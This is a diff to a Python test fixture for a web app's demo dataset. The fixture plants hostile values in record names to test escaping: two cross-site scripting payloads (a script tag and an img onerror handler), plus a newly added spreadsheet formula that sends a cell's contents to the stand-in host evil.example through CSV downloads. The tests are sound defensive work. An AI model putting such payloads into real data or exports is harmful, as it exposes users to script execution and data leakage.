@@ -25,13 +25,19 @@ from web.app import create_app
 AS_OF = dt.date(2025, 6, 1)
 EVIL_ORG = '<script>alert("org")</script> Taalcafé & Co'
 EVIL_PERSON = "<img src=x onerror=alert(1)> Fatima"
+# A spreadsheet formula as a buddy initiative's name, for the CSV downloads.
+FORMULA_BUDDY = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
 
 
 def demo_dataset() -> Dataset:
-    """Return the demo dataset (seed 1) with markup in the first organisation's and person's names."""
+    """Return the demo dataset (seed 1) with markup in the first organisation's and person's names
+    and a spreadsheet formula as a buddy initiative's name."""
     data = generate("demo", 1)
     data.organisations[0] = dataclasses.replace(data.organisations[0], name=EVIL_ORG)
     data.people[0] = dataclasses.replace(data.people[0], name=EVIL_PERSON)
+    orgs = data.organisations
+    buddy = next(i for i, o in enumerate(orgs) if i and o.kind == "maatjesproject")
+    orgs[buddy] = dataclasses.replace(orgs[buddy], name=FORMULA_BUDDY)
     return data
 
 
